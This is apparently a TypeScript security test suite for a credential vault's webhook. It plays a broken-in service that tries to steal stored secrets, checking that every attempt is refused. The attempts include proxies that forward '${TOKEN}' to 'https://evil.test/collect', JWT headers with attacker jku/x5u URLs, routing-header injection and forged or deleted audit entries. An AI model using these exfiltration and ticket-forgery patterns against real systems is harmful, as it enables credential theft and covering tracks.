/**
 * The promise of the protocol's first section, played: the service is broken into. Whoever plays it here holds the
 * right key, signs whatever it likes, and must not get a plaintext credential that was not meant to leave.
 */
import { createHmac, generateKeyPairSync } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { type JWK, calculateJwkThumbprint, compactDecrypt, exportJWK, importJWK } from 'jose';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { ManualClock, newId, randomToken, utf8 } from '@svault/shared';
import { SECRET_FIELD_NAMES } from '@svault/shared/schemas';
import { tracesOf } from '@svault/test-kit/secret-forms';
import { type Answer, type BoundWebhook, OWNER, boundWebhook } from './support/bound-webhook.ts';
import { attackByProxy } from './support/proxy-attack.ts';
import { callProxy, putProxy } from './support/proxy-calls.ts';
import { attackByMediation, attackByTokenUrl } from './support/refresh-attack.ts';
import { command } from './support/run-webhook.ts';
import { startUpstream } from './support/upstream.ts';

/** The first column of the table in shared/PROTOCOL.md. */
const ROWS = [
  'read a record through `/v1/storage`',
  'send `${TOKEN}` to its own host, or in a header that routes',
  'have an allowed host called by plain `http`, to read along',
  'guess a one-time code, a PIN or a password through a proxy',
  'fetch a `proxy-only` record with a ticket it signed itself',
  'read a `sealed` record from `/v1/credential`',
  'take a refresh token by a ticket that says `rfp: none`',
  'make a refresh go to its own token URL',
  'see tokens during a mediated refresh',
  'hide what it did',
] as const;
type Row = (typeof ROWS)[number];

const SECRET = 'the-canary-that-must-not-leave/+é';
/** ASCII, so that a header could carry it. */
const SENDABLE = 'the-canary-that-could-be-sent/+';
const PROVIDER = { tokenUrl: 'https://provider.test/token', clientId: 'client', clientSecret: `${SECRET} c` };

let webhook: BoundWebhook;
/** Everything that the service was told in a test. */
let told: string[];
beforeEach(async () => {
  told = [];
  webhook = await boundWebhook({
    clock: new ManualClock(Date.now()),
    env: { SV_EGRESS_ALLOW: '127.0.0.1/32' },
  });
});
afterEach(() => webhook.remove());

async function ask(answer: Promise<Answer>): Promise<Answer> {
  const { status, headers, text, json } = await answer;
  told.push(text, JSON.stringify([...headers]));
  return { status, headers, text, json };
}
const storage = (operation: object): Promise<Answer> => ask(webhook.storage(operation));
const fetchIt = (name: string, claims: Parameters<BoundWebhook['credential']>[1] = {}): Promise<Answer> =>
  ask(webhook.credential(name, claims));
/** What the owner stores, from a browser or the CLI; the service does not see the body. */
async function owned(name: string, body: object): Promise<void> {
  expect(await webhook.store(name, body)).toMatchObject({ status: 200 });
}
const tracesSeen = (secret: string): readonly string[] => tracesOf(secret, Buffer.from(told.join('\n')));

/** Subjects that a broken-in service may write into its tickets. */
const AGENT = newId('agt');
const SUBJECTS = [OWNER, AGENT, newId('prx'), newId('usr')];

const played: Record<Row, () => Promise<void>> = {
  'read a record through `/v1/storage`': async () => {
    await owned('plain', { tokenType: 'PlainText', value: SECRET });
    await owned('jwt', {
      tokenType: 'JWT',
      accessToken: SECRET,
      refreshToken: `r ${SECRET}`,
      provider: PROVIDER,
    });
    await owned('tls', { tokenType: 'Certificate', certificate: SECRET, privateKey: SECRET });
    await owned('raw', { tokenType: 'RawCredential', value: SECRET, delivery: 'proxy-only' });
    for (const serviceName of ['plain', 'jwt', 'tls', 'raw']) {
      const { status, json } = await storage({ op: 'tokens.get', serviceName });
      expect([status, json.serviceName]).toEqual([200, serviceName]);
      // Asking for more than there is: unknown members are ignored, secret names refused.
      for (const extra of [{ fields: ['*'] }, { include: 'secrets' }, { reveal: true }, { expand: ['body'] }])
        expect((await storage({ op: 'tokens.get', serviceName, ...extra })).json).toEqual(json);
    }
    await storage({ op: 'tokens.list', limit: 500 });
    await storage({ op: 'tokens.list', expiresBefore: '2100-01-01T00:00:00Z' });
    await storage({ op: 'audit.list' });
    for (const op of [
      'tokens.reveal',
      'tokens.export',
      'tokens.put',
      'records.get',
      'credential.get',
      '__proto__',
    ])
      expect((await storage({ op, serviceName: 'plain' })).json.code).toBe('INVALID_REQUEST');
    expect((await storage({ op: 'proxies.put', ...proxyTo('plain') })).status).toBe(200);
    await storage({ op: 'proxies.list' });
    expect(tracesSeen(SECRET)).toEqual([]);
  },

  'send `${TOKEN}` to its own host, or in a header that routes': async () => {
    told.push(...(await attackByProxy(webhook, SENDABLE)));
    expect(tracesSeen(SENDABLE)).toEqual([]);
  },

  'have an allowed host called by plain `http`, to read along': async () => {
    // In SV_EGRESS_ALLOW, as an internal host is that serves https.
    const host = await startUpstream();
    try {
      await owned('inside', { tokenType: 'PlainText', value: SENDABLE, allowedHosts: [host.host] });
      await putProxy(webhook, host.url, { serviceName: 'inside' });
      const { status, json } = await callProxy(webhook, { serviceName: 'inside' });
      expect([status, json.code, host.connections()]).toEqual([403, 'DESTINATION_NOT_ALLOWED', 0]);
    } finally {
      await host.close();
    }
  },

  'guess a one-time code, a PIN or a password through a proxy': async () => {
    const short = { tokenType: 'PlainText', value: '482913', delivery: 'proxy-only' };
    const [host, said] = ['api.test', { allowShortSecret: true }];
    // Whatever it says itself, only the body of a store permits it, and that is the owner's.
    const claims = said as object;
    const refused = await ask(webhook.store('pin', { ...short, allowedHosts: [host] }, claims));
    expect([refused.status, refused.json.code]).toEqual([400, 'INVALID_REQUEST']);
    await owned('pin', { ...short, allowedHosts: [host], ...said });
    expect((await storage({ op: 'tokens.get', serviceName: 'pin' })).text).not.toMatch(/short|482913/i);
  },

  'fetch a `proxy-only` record with a ticket it signed itself': async () => {
    await owned('proxied', {
      tokenType: 'PlainText',
      value: SECRET,
      delivery: 'proxy-only',
      allowedHosts: ['api.test'],
    });
    for (const sub of SUBJECTS)
      for (const more of [
        {},
        { cnf: { jkt: 'A'.repeat(43) } },
        { rfp: 'auto' },
        { delivery: 'any' },
      ] as object[]) {
        const refused = await fetchIt('proxied', { sub, ...more });
        expect(refused).toMatchObject({ status: 403, json: { code: 'DELIVERY_NOT_ALLOWED' } });
      }
    expect(tracesSeen(SECRET)).toEqual([]);
  },

  'read a `sealed` record from `/v1/credential`': async () => {
    const [recipient, attacker] = [await keyPair(), await keyPair()];
    const body = { tokenType: 'PlainText', value: SECRET, delivery: 'sealed', recipients: [recipient.jwk] };
    await owned('sealed', body);
    const named = { cnf: { jkt: recipient.jkt } };
    for (const sub of SUBJECTS) {
      for (const more of [
        {},
        { cnf: {} },
        { cnf: { jkt: attacker.jkt } },
        { cnf: { jwk: attacker.jwk } },
        { cnf: { jkt: attacker.jkt, jwk: attacker.jwk } },
        { recipients: [attacker.jwk], cnf: { jkt: attacker.jkt } },
        { delivery: 'any' },
      ] as object[]) {
        const refused = await fetchIt('sealed', { sub, ...more });
        expect(refused).toMatchObject({ status: 403, json: { code: 'DELIVERY_NOT_ALLOWED' } });
      }
      // It may ask for the envelope in anybody's name, with a key of its own beside the thumbprint.
      for (const cnf of [named.cnf, { ...named.cnf, jwk: attacker.jwk }]) {
        const { status, headers, text } = await fetchIt('sealed', { sub, cnf });
        expect([status, headers.get('content-type')]).toEqual([200, 'application/jose']);
        await expect(compactDecrypt(text, attacker.privateKey)).rejects.toThrow();
        const { plaintext } = await compactDecrypt(text, recipient.privateKey);
        expect(Buffer.from(plaintext).toString()).toContain(SECRET);
      }
    }
    expect(tracesSeen(SECRET)).toEqual([]);
  },

  'take a refresh token by a ticket that says `rfp: none`': async () => {
    const jwt = { tokenType: 'JWT', accessToken: 'access', refreshToken: SECRET };
    await owned('kept', { ...jwt, shareRefreshToken: false });
    await owned('provided', { ...jwt, provider: PROVIDER });
    for (const name of ['kept', 'provided'])
      for (const sub of SUBJECTS)
        for (const more of [
          { rfp: 'none' },
          { rfp: 'auto' },
          { rfp: 'none', shareRefreshToken: true },
        ] as object[]) {
          const { status, json } = await fetchIt(name, { sub, ...more });
          expect([status, Object.keys(json.token)]).toEqual([
            200,
            expect.not.arrayContaining(['refreshToken']),
          ]);
        }
    expect(tracesSeen(SECRET)).toEqual([]);
  },

  'make a refresh go to its own token URL': async () => {
    told.push(...(await attackByTokenUrl(webhook, SENDABLE)));
    expect(tracesSeen(SENDABLE)).toEqual([]);
  },

  'see tokens during a mediated refresh': async () => {
    told.push(...(await attackByMediation(webhook, SENDABLE)));
    expect(tracesSeen(SENDABLE)).toEqual([]);
  },

  'hide what it did': async () => {
    await owned('used', { tokenType: 'PlainText', value: SECRET });
    const use = async (): Promise<unknown> => {
      const jti = randomToken();
      expect((await webhook.credential('used', { jti })).status).toBe(200);
      return jti;
    };
    const uses = [await use(), await use()];
    const { head } = (await webhook.storage({ op: 'audit.list' })).json;
    const own = (await webhook.storage({ op: 'audit.list' })).json.items[0];
    const event = { eventType: 'CREDENTIAL_DELIVERED', timestamp: own.timestamp, outcome: 'success' };
    const forged = [
      { ...event, id: own.id },
      { ...event, id: 'made-up', source: 'webhook', serviceName: 'used', agentId: AGENT },
      { ...event, id: 'numbered', seq: own.seq, epoch: head.epoch, hash: head.hash },
    ];
    expect((await webhook.storage({ op: 'audit.append', events: forged })).json).toEqual({ accepted: 3 });
    for (const op of ['audit.delete', 'audit.put', 'audit.truncate', 'audit.purge'])
      expect((await webhook.storage({ op, id: own.id, seq: own.seq })).json.code).toBe('INVALID_REQUEST');
    await webhook.storage({ op: 'tokens.delete', serviceName: 'used' });

    const { items, head: now } = (await webhook.storage({ op: 'audit.list' })).json;
    const byItself = items.filter(({ source }: { source: string }) => source === 'webhook');
    const delivered = byItself.filter(
      ({ eventType }: { eventType: string }) => eventType === event.eventType,
    );
    expect(delivered.map(({ detail }: { detail: { jti: string } }) => detail.jti)).toEqual(uses.toReversed());
    expect(byItself.map(({ eventType }: { eventType: string }) => eventType)).toContain('CREDENTIAL_DELETED');
    // What it appended stands there as its own word, with the webhook's entry of that id untouched.
    expect(items.filter(({ id }: { id: string }) => id === own.id)).toEqual([
      expect.objectContaining({ source: 'service' }),
      own,
    ]);
    expect(now).toMatchObject({ epoch: head.epoch, seq: head.seq + forged.length + 1 });
    expect((await command(webhook.env, 'audit', 'verify')).stdout).toMatch(/the log is whole/);
  },
};

describe('a broken-in service that holds the right key tries to', () => {
  for (const [row, play] of Object.entries(played)) test(row, play);
});

test('every row of the table is played here', () => {
  expect(Object.keys(played).toSorted()).toEqual([...ROWS].toSorted());
});

test('the rows are those of the protocol', () => {
  const text = readFileSync(new URL('../../shared/PROTOCOL.md', import.meta.url), 'utf8');
  const lines = text.split('\n');
  const start = lines.findIndex((line) => line.startsWith('| A broken-in service tries to'));
  const table = lines.slice(start + 2, lines.indexOf('', start));
  expect(table.map((line) => line.split('|')[1]?.trim())).toEqual(ROWS);
});

describe('what holds the rows that wait', () => {
  test('no storage operation changes what is sealed', async () => {
    const sealed = { delivery: 'proxy-only', allowedHosts: ['api.test'], allowedHeaders: ['x-key'] };
    await owned('doc', { tokenType: 'PlainText', value: SECRET, ...sealed });
    const open = { delivery: 'any', allowedHosts: ['evil.test'], allowedHeaders: ['host'] };
    for (const op of [
      'tokens.get',
      'tokens.list',
      'proxies.put',
      'tokens.put',
      'tokens.patch',
      'tokens.update',
    ])
      await storage({ op, ...proxyTo('doc'), ...open });
    expect((await storage({ op: 'tokens.get', serviceName: 'doc' })).json).toMatchObject(sealed);
  });

  test('a store without the secret changes nothing, so restrictions leave only with the secret', async () => {
    const sealed = { delivery: 'proxy-only', allowedHosts: ['api.test'] };
    await owned('doc', { tokenType: 'PlainText', value: SECRET, ...sealed });
    for (const body of [
      { tokenType: 'PlainText', delivery: 'any' },
      { delivery: 'any' },
      { tokenType: 'PlainText', value: null, delivery: 'any' },
      { tokenType: 'JWT', allowedHosts: ['evil.test'] },
    ])
      expect(await ask(webhook.store('doc', body))).toMatchObject({ status: 400 });
    // Its own secret it may store; nothing of the old record goes along.
    await owned('doc', { tokenType: 'PlainText', value: 'its own' });
    expect((await fetchIt('doc')).json.token.accessToken).toBe('its own');
    expect(tracesSeen(SECRET)).toEqual([]);
  });

  test('a template may not set a header that routes', async () => {
    for (const name of [
      'host',
      'Host',
      'content-length',
      'transfer-encoding',
      'connection',
      'sv-ticket',
      'x-forwarded-host',
    ])
      expect([
        name,
        (await storage({ op: 'proxies.put', ...proxyTo('doc', { [name]: '${TOKEN}' }) })).status,
      ]).toEqual([name, 400]);
  });
});

describe('/v1/storage carries no secret', () => {
  const event = { id: 'e', eventType: 'X', timestamp: '2026-01-01T00:00:00Z', outcome: 'success' };
  const spellings = (name: string): readonly string[] => [name, name.toUpperCase(), name.toLowerCase()];

  test.each(SECRET_FIELD_NAMES)('%s, at any depth and in any case', async (name) => {
    for (const spelt of spellings(name))
      for (const operation of [
        { op: 'tokens.get', serviceName: 'a', [spelt]: SECRET },
        { op: 'tokens.list', deep: { deeper: [[{ [spelt]: 1 }]] } },
        { op: 'audit.append', events: [{ ...event, detail: { a: [{ [spelt]: SECRET }] } }] },
        { op: 'proxies.put', ...proxyTo('a'), more: { headerTemplates: { [spelt]: SECRET } } },
      ]) {
        const refused = await storage(operation);
        expect([spelt, refused.status, refused.json.code]).toEqual([spelt, 400, 'SECRET_FIELD']);
        const { results } = (await storage({ batch: [operation, { op: 'tokens.list' }] })).json;
        expect(results).toEqual([refused.json, { items: [] }]);
      }
    expect(tracesSeen(SECRET)).toEqual([]);
    expect((await webhook.storage({ op: 'audit.list' })).json.items).not.toContainEqual(
      expect.objectContaining({ source: 'service' }),
    );
  });

  test('but headers of a proxy may be called like one', async () => {
    const templates = { secret: 'x', Password: '${TOKEN}', 'x-value': 'y' };
    const { status, json } = await storage({ op: 'proxies.put', ...proxyTo('a', templates) });
    expect([status, json.headerTemplates]).toEqual([200, templates]);
  });
});

describe('what it replaces or deletes', () => {
  const restore = (name: string) => command(webhook.env, 'restore', name);
  const valueOf = async (name: string): Promise<unknown> =>
    (await webhook.credential(name)).json.token.accessToken;
  const replaced = async (name: string): Promise<void> => {
    await owned(name, { tokenType: 'PlainText', value: SECRET });
    await owned(name, { tokenType: 'PlainText', value: 'its own' });
  };

  test('comes back by `restore NAME`, again and again', async () => {
    await replaced('doc');
    expect(await restore('doc')).toMatchObject({ code: 0 });
    expect(await valueOf('doc')).toBe(SECRET);
    expect((await storage({ op: 'tokens.delete', serviceName: 'doc' })).json).toEqual({ deleted: true });
    expect((await fetchIt('doc')).status).toBe(404);
    expect(await restore('doc')).toMatchObject({ code: 0 });
    expect(await valueOf('doc')).toBe(SECRET);
    expect((await storage({ op: 'tokens.get', serviceName: 'doc' })).json.version).toBe(4);
  });

  test('is kept for 7 days', async () => {
    // The command runs by the machine's clock, so what it finds was replaced in the past.
    await webhook.remove();
    webhook = await boundWebhook({ clock: new ManualClock(Date.now() - 7 * 24 * 3_600_000 - 60_000) });
    await replaced('too long ago');
    webhook.clock.advance(120_000);
    await replaced('just in time');
    const [gone, kept] = await Promise.all([restore('too long ago'), restore('just in time')]);
    expect([gone.code, kept.code]).toEqual([1, 0]);
    expect(await valueOf('just in time')).toBe(SECRET);
  });
});

test('keys, hosts and algorithms of its own choice in a ticket header are none', async () => {
  await owned('doc', { tokenType: 'PlainText', value: SECRET });
  const [, payload = ''] = webhook.credentialTicket('doc').split('.');
  const attacker = await keyPair();
  for (const extra of [
    { jwk: attacker.jwk },
    { jku: 'https://evil.test/keys' },
    { x5u: 'https://evil.test/x' },
    { crit: ['b64'], b64: false },
    { zip: 'DEF' },
  ]) {
    const header = { alg: 'HS256', typ: 'sv-ticket+jwt', kid: webhook.key.id, ...extra };
    const input = `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${payload}`;
    const mac = createHmac('sha256', webhook.key.secret).update(utf8(input)).digest('base64url');
    expect((await ask(webhook.send(`/v1/credential?ticket=${input}.${mac}`))).json.code).toBe(
      'TICKET_INVALID',
    );
  }
  expect(tracesSeen(SECRET)).toEqual([]);
});

function proxyTo(
  serviceName: string,
  headerTemplates: Record<string, string> = { authorization: 'Bearer ${TOKEN}' },
) {
  return {
    proxyId: 'prx_AAAAAAAAAAAAAAAAAAAAAA',
    serviceName,
    upstreamUrl: 'https://evil.test/collect',
    headerTemplates,
  };
}

async function keyPair(): Promise<{
  jwk: JWK;
  jkt: string;
  privateKey: Awaited<ReturnType<typeof importJWK>>;
}> {
  const pair = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = await exportJWK(pair.publicKey);
  return {
    jwk,
    jkt: await calculateJwkThumbprint(jwk, 'sha256'),
    privateKey: await importJWK(await exportJWK(pair.privateKey), 'ECDH-ES'),
  };
}
